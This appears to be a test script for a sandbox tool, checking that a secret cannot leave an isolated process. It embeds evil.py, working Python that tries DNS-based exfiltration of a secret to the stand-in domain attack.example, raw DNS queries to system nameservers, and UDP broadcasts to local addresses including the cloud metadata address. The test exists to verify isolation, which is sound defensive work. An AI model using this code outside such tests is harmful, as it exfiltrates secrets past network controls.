# A secret leaves as a name that is looked up, or as a datagram.
needs walls python3
service
file evil.py <<'END'
import socket, struct, sys
secret, port = sys.argv[1], int(sys.argv[2])
servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
print("nameservers", servers, flush=True)
q = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in (secret.encode()[:60], b"attack", b"example")) + b"\0\0\x10\0\1"
try: socket.getaddrinfo(secret + ".attack.example", 80); print("RESOLVED")
except OSError: pass
for n in servers:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(2, kind); s.settimeout(1); s.connect((n, 53)); s.sendall(q if kind == socket.SOCK_DGRAM else struct.pack(">H", len(q)) + q)
            a = s.recv(4096)
            a = a[2:] if kind == socket.SOCK_STREAM else a
            if len(a) > 11 and a[7] > 0: print("ANSWERED")
        except OSError: pass
for h in ("127.0.0.1", "127.0.0.53", "10.0.2.3", "169.254.169.254", "255.255.255.255"):
    try: s = socket.socket(2, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.sendto(b"LEAK " + q, (h, port))
    except OSError: pass
END
python3 evil.py "$SECRET" "$port" >/dev/null
alive "datagrams do not reach the service from outside" got LEAK
: >"$SCRATCH/got"
room "python3 evil.py '$SECRET' $port"
says nameservers
hides RESOLVED "a name was looked up with the network off"
hides ANSWERED "a question for a name was answered with the network off"
! got LEAK || broke "a datagram got out"
held
